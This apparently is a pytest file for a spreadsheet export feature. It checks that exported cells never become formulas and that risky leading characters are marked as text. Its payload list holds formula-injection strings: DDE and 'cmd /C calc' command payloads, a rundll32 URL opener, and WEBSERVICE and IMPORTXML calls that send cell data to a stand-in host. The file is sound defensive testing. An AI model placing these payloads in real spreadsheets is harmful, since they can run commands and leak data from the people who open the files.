"""What we hand out never calculates: text stays text, whatever it begins with."""

import io
import itertools
import zipfile
from collections.abc import Iterable
from typing import Any

import pytest
from openpyxl import load_workbook

from accounts.types import Place
from imports import services
from imports.columns import Column, Text
from imports.kinds import Errand, ImportKind
from imports.reading.reader import read_sheet
from imports.types import CellKind
from imports.writing import export_of, template_of
from tests.imports.sheets import cells_of

_BEGINNINGS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "'=", '"=', "=@", "=-+"]
_BODIES = [
    'HYPERLINK("http://x.example","点我")', "cmd|' /C calc'!A0", "1+1", "SUM(A1:A9)",
    "WEBSERVICE(\"http://x.example\")", "IMPORTXML(CONCAT(\"http://x.example?\",A1),\"//a\")",
    "DDE(\"cmd\";\"/C calc\";\"x\")", "rundll32|'URL.dll,OpenURL http://x.example'!A",
    "2+5+cmd|'x'!A",
    "A1", "", "1e5", "TRUE", "#REF!", "'Sheet'!A1",
]  # fmt: skip
PAYLOADS = [begin + body for begin, body in itertools.product(_BEGINNINGS, _BODIES)] + [
    "{=1+1}", "=", "==", "0001", "1.38E10", "2026-03-05", "_x003D_1+1", "#N/A", "<b>王</b>",
    "王\x00\x08小梅", "王&amp;小梅", "a" * 900,
]  # fmt: skip


class Notes(ImportKind):
    key, title, hint = "notes", "备注", "一行一条。"

    first = Column("第一", Text(1000), required=True, example="=1+1")
    second = Column("第二", Text(1000), example="-")

    def records(self) -> Iterable[Any]:
        return [{"first": payload, "second": payload} for payload in PAYLOADS]


@pytest.fixture
def exported(operator, now):
    errand = Errand(actor=operator, place=Place("310116", "310116001"), now=now)
    return export_of(Notes(errand))


def test_no_cell_of_an_export_is_a_formula(exported):
    cells = [cell for row in cells_of(exported) for cell in row]

    assert len(cells) == 2 + 2 * len(PAYLOADS) > 400
    assert {cell.data_type for cell in cells} == {"s"}
    assert {cell.number_format for cell in cells} == {"@"}


def test_nor_for_somebody_who_reads_the_file_itself(exported):
    with zipfile.ZipFile(io.BytesIO(exported)) as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist()}

    assert not [name for name, xml in parts.items() if "<f>" in xml or "<f " in xml]


def test_what_excel_might_take_for_a_formula_once_edited_is_marked_as_text(exported):
    for row in cells_of(exported)[1:]:
        looks_like_one = str(row[0].value)[:1] in set("=+-@")
        assert bool(row[0].quotePrefix) == looks_like_one


def test_what_went_out_is_read_again_as_text(exported):
    rows = read_sheet(exported).rows[1:]

    assert {cell.kind for row in rows for cell in row.cells} <= {CellKind.TEXT, CellKind.BLANK}
    assert rows[0].cells[0].text == PAYLOADS[0]


def test_a_template_explains_every_column_and_has_no_formula(operator):
    content = template_of(Notes)

    assert {cell.data_type for row in cells_of(content) for cell in row} == {"s"}
    guide = [cell.value for row in cells_of(content, 1) for cell in row]
    assert {"第一", "第二", "必填", "选填", "文字，最多 1000 字"} <= set(guide)


def test_the_template_of_every_kind_offers_its_words(operator, house):
    content = services.template(kind="timetables", actor=operator).content

    offered = load_workbook(io.BytesIO(content)).worksheets[0].data_validations.dataValidation
    assert {one.formula1 for one in offered} == {
        '"周一,周二,周三,周四,周五,周六,周日"', '"单独托,亲子托,老小托"'
    }  # fmt: skip
